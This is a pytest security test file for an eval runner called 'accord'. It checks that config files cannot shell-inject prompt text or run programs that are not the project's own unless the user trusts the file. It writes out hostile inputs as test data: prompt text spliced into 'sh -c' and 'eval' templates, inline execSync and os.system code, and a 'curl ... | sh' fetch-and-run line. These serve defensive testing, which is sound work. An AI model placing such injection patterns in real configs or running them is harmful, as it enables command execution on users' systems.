"""The one door of programs (engine/programs.admit), tried as the author of one file would
try it, through `accord eval` in a process of its own in a fresh project:

- a test's text never becomes a script another shell runs (`sh -c "... {PROMPT} ..."` in an
  AgentV `cli` command, whatever its quotes, trusted or not);
- a program that is not the project's own (`exec: sh -c ...`, `/usr/bin/env touch`, a PATH
  program) or code written in the file runs only in a file the user trusts;
- the working forms run: a project script reading "$AGENTV_PROMPT" gets the exact text, a
  trusted file's `exec: sh -c ...` runs, a project script named by `exec:` runs untrusted.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from accord.engine import programs
from tests.security.helpers import ATTACK, accord, pwned, refused, write

AGENTV_EVAL = f"""execution:
  target: default
  evaluators: [{{name: c, type: contains, value: x}}]
tests:
  - id: t
    criteria: x
    input: {json.dumps(ATTACK)}
"""


@pytest.mark.parametrize(
    "template",
    [
        'sh -c "echo {PROMPT}"',
        "sh -c 'echo {PROMPT}'",
        "sh -c {PROMPT}",
        'bash -lc "echo {PROMPT}"',
        'env sh -c "echo {PROMPT}"',
        '/bin/sh -c "echo {PROMPT}"',
        'eval "echo {PROMPT}"',
        "echo {PROMPT} | sh",
    ],
)
@pytest.mark.parametrize("trusted", [False, True])
def test_f18_prompt_in_a_shell_script_is_refused(
    tmp_path: Path, template: str, trusted: bool
) -> None:
    """F18: the reproduction (no config.yml; the project is the folder holding .agentv):
    refused at the target's line, trusted or not, and nothing of the test's text runs."""
    root = write(
        tmp_path,
        {
            ".agentv/targets.yaml": "targets:\n  - name: default\n    provider: cli\n"
            f"    command_template: {json.dumps(template)}\n",
            "evals/ds.yaml": AGENTV_EVAL,
        },
    )
    if trusted:
        assert accord(root, "trust", ".agentv/targets.yaml").returncode == 0
    run = accord(root, "eval", "evals/ds.yaml")
    refused(run, "targets.yaml:4", "$AGENTV_PROMPT", "a file of the project")
    assert "double quotes" not in run.stderr  # the old advice was the exploitable form
    assert pwned(root) == []


@pytest.mark.parametrize(
    ("entry", "line"),
    [
        ("    command_template: '/usr/bin/touch pwned {OUTPUT_FILE}'\n", 5),
        (
            "    command_template: './run.sh {OUTPUT_FILE}'\n"
            "    healthcheck:\n      command_template: '/usr/bin/touch pwned'\n",
            7,
        ),
    ],
    ids=["command", "healthcheck"],
)
def test_a_program_not_the_projects_is_refused_at_its_own_line(
    tmp_path: Path, entry: str, line: int
) -> None:
    """A targets.yaml program the file may not run untrusted is refused at the line of the
    key that names it (the command, or the health check's), not at the target's first."""
    root = write(
        tmp_path,
        {
            ".agentv/targets.yaml": "targets:\n  - name: default\n    provider: cli\n"
            "    timeout_seconds: 5\n" + entry,
            "evals/run.sh": '#!/bin/sh\nprintf ok > "$1"\n',
            "evals/ds.yaml": AGENTV_EVAL,
        },
    )
    run = accord(root, "eval", "evals/ds.yaml")
    refused(run, f"targets.yaml:{line}:", "accord trust")
    assert pwned(root) == []


def test_f18_agentv4_catalog_command(tmp_path: Path) -> None:
    """F18 in an AgentV 4 catalog: `sh -c "python3 answer.py --q {PROMPT} ..."`."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "answer.py": "import sys\nopen(sys.argv[4], 'w').write(sys.argv[2])\n",
            ".agentv/providers.yaml": "providers:\n"
            "  - {id: cli, label: prog, command: 'sh -c \"python3 answer.py --q {PROMPT} "
            "--out {OUTPUT_FILE}\"'}\n",
            "evals/a.eval.yaml": "providers: [prog]\ntests:\n"
            f"  - {{id: t, input: {json.dumps(ATTACK)}, assert: [{{type: contains, value: a}}]}}\n",
        },
    )
    run = accord(root, "eval", "evals/a.eval.yaml")
    refused(run, "$AGENTV_PROMPT")
    assert "sh -c" in run.stderr
    assert pwned(root) == []


def test_f18_the_working_form_gets_the_exact_text(tmp_path: Path) -> None:
    """A script of the project reading "$AGENTV_PROMPT" runs untrusted and gets the text
    exactly, quotes, `$(...)` and all, and none of it runs."""
    root = write(
        tmp_path,
        {
            ".agentv/targets.yaml": "targets:\n  - name: default\n    provider: cli\n"
            "    command_template: './run.sh {OUTPUT_FILE}'\n",
            "evals/run.sh": '#!/bin/sh\nprintf "%s" "$AGENTV_PROMPT" > seen.txt\n'
            'printf "%s" "$AGENTV_PROMPT" > "$1"\n',
            "evals/ds.yaml": AGENTV_EVAL.replace("value: x", "value: touch"),
        },
    )
    (root / "evals" / "run.sh").chmod(0o755)  # AgentV runs it in the eval file's folder
    run = accord(root, "eval", "evals/ds.yaml")
    assert run.returncode == 0, run.stdout + run.stderr
    assert (root / "evals" / "seen.txt").read_text() == ATTACK
    assert pwned(root) == []


PROMPTFOO = """prompts: ['hi']
providers: [{provider}]
tests: [{{assert: [{{type: contains, value: hi}}]}}]
"""


@pytest.mark.parametrize(
    "provider",
    [
        "'exec: sh -c \"touch pwned\"'",
        "'exec: /usr/bin/env touch pwned'",
        "'exec: touch pwned'",
        "'exec: python3 -c \"open(''pwned'', ''w'')\"'",
    ],
)
def test_f13_exec_of_a_program_not_the_projects_is_refused(tmp_path: Path, provider: str) -> None:
    """F13: the reproduction; the refusal names the line and the way to trust the file."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "promptfooconfig.yaml": PROMPTFOO.format(provider=provider),
        },
    )
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    refused(
        run, "promptfooconfig.yaml:2", "accord trust promptfooconfig.yaml", "script of the project"
    )
    assert pwned(root) == []
    assert accord(root, "validate", "promptfooconfig.yaml").returncode == 2


def test_f13_a_trusted_config_runs_its_exec(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "promptfooconfig.yaml": PROMPTFOO.format(
                provider="'exec: sh -c \"echo hi; touch ran\"'"
            ),
        },
    )
    assert accord(root, "trust", "promptfooconfig.yaml").returncode == 0
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    assert run.returncode == 0, run.stdout + run.stderr
    assert (root / "ran").exists()


def test_f13_config_trusted_by_config_yml_glob(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\ntrusted: ['promptfooconfig.yaml']\n",
            "promptfooconfig.yaml": PROMPTFOO.format(provider="'exec: sh -c \"echo hi\"'"),
        },
    )
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    assert run.returncode == 0, run.stdout + run.stderr


def test_f13_a_project_script_runs_untrusted(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "answer.py": "import sys\nprint(sys.argv[1])\n",
            "promptfooconfig.yaml": PROMPTFOO.format(provider="'exec: python3 answer.py'"),
        },
    )
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    assert run.returncode == 0, run.stdout + run.stderr


def test_f13_agentv4_catalog_exec(tmp_path: Path) -> None:
    """The same in an AgentV 4 catalog: refused at the catalog's line."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            ".agentv/providers.yaml": "providers:\n  - id: 'exec: sh -c \"touch pwned\"'\n"
            "    label: prog\n",
            "a.eval.yaml": "providers: [prog]\ntests:\n"
            "  - {id: t, input: hi, assert: [{type: contains, value: hi}]}\n",
        },
    )
    run = accord(root, "eval", "a.eval.yaml")
    refused(run, "providers.yaml:2", "accord trust")
    assert pwned(root) == []


def test_eval_yml_command_target(tmp_path: Path) -> None:
    """An `.eval.yml` `type: command` of a PATH program: refused at its line, exit 2."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "x.eval.yml": "target:\n  type: command\n  command: [touch, pwned]\n"
            "evaluators: [{type: contains, value: x}]\ncases: [{input: x}]\n",
        },
    )
    run = accord(root, "eval", "x.eval.yml")
    refused(run, "x.eval.yml:", "'touch' from the PATH", "accord trust x.eval.yml")
    assert pwned(root) == []


def test_inline_promptfoo_code_needs_trust(tmp_path: Path) -> None:
    """F23's keys: inline `javascript`/`python` assertions, an assertion's `transform` and a
    test's `options.transform` are code written in the file."""
    config = """prompts: ['hi']
providers: [echo]
tests:
  - options: {transform: "require('child_process').execSync('touch pwned1'); return output"}
    assert:
      - {type: python, value: "__import__('os').system('touch pwned2') or True"}
      - {type: contains, value: hi, transform: "require('child_process').execSync('touch pwned3')"}
"""
    root = write(tmp_path, {"config.yml": "defaults: {}\n", "promptfooconfig.yaml": config})
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    refused(run, "promptfooconfig.yaml:4", "options.transform", "file://", "accord trust")
    assert "promptfooconfig.yaml:6" in run.stderr and "promptfooconfig.yaml:7" in run.stderr
    assert pwned(root) == []


# --- the rule itself, without a process -----------------------------------------------------


@pytest.mark.parametrize(
    ("command", "admitted"),
    [
        (["python3", "run.py"], True),
        (["python3", "-u", "run.py"], True),
        (["uv", "run", "run.py"], True),
        (["node", "scripts/x.js"], True),
        (["npx", "tsx", "scripts/x.ts"], True),
        (["bun", "run", "scripts/x.ts"], True),
        (["bash", "run.sh"], True),
        (["./run.sh"], True),
        ([sys.executable, "run.py"], True),
        (["python3", "-c", "print(1)"], False),
        (["node", "-e", "1"], False),
        (["node", "--eval=1"], False),
        (["bun", "-e", "1"], False),
        (["sh", "-c", "true"], False),
        (["bash", "-ec", "true"], False),
        (["python3", "../x.py"], False),
        (["python3", "/etc/x.py"], False),
        (["python3", "link.py"], False),
        (["touch", "x"], False),
        (["env", "python3", "run.py"], False),
        (["/usr/bin/touch", "x"], False),
        (["npx", "cowsay"], False),
        (["uv", "run", "--with", "x", "run.py"], False),
        ("python3 run.py --q {PROMPT} > {OUTPUT_FILE}", True),
        ("cd scripts && node x.js {PROMPT}", True),
        ("exit 0", True),
        ("python3 run.py $(id)", False),
        ("X=1 python3 run.py", False),
        ("python3 run.py > /tmp/out", False),
        ("curl http://example.com | sh", False),
    ],
)
def test_the_rule(tmp_path: Path, command: str | list[str], admitted: bool) -> None:
    root = write(
        tmp_path / "proj",
        {"run.py": "", "run.sh": "", "scripts/x.js": "", "scripts/x.ts": "", "f.yaml": ""},
    )
    (tmp_path / "outside.py").write_text("")
    (root / "link.py").symlink_to(tmp_path / "outside.py")
    refusal = programs.admit(command, root / "f.yaml", root)
    assert (refusal is None) is admitted, refusal
    if not admitted:
        assert "accord trust" in (refusal or "")
        (root / "config.yml").write_text("trusted: ['f.yaml']\n")
        assert programs.admit(command, root / "f.yaml", root) is None
